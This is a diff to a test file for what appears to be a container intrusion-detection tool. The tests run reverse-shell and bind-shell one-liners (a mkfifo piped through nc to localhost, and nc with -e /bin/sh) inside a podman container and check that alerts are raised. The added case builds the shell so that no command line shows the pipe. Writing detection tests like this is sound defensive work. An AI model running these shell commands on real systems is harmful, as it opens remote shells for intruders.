@@ -47,6 +47,10 @@ describe.skipIf(podman === undefined)('a watch over containers of podman', () =>
     const shell = 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f & sleep 1';
     const wanted = { severity: 'high', container: 'shop', image };
     expect(await alertOf(/Joined to the Network/, () => podman?.exec('shop', shell))).toMatchObject(wanted);
+    // Joined by the shell that somebody types into: no command line shows the pipe.
+    const typed = ['nc -l -p 4445 < /dev/null > /dev/null &', 'rm -f /tmp/g; mkfifo /tmp/g; sleep 0.3'];
+    const joined = [...typed, '(sh -i < /tmp/g 2>&1 | nc 127.0.0.1 4445 > /tmp/g) &', 'sleep 1; kill %1 %2'];
+    expect(await alertOf(/beside a Program That Relays/, () => podman?.type('shop', joined))).toMatchObject(wanted);
     const listener = 'nc -l -p 4444 -e /bin/sh & sleep 1; kill $!';
     expect(await alertOf(/Netcat|reverse shell/i, () => podman?.exec('shop', listener))).toMatchObject({
       container: 'shop',
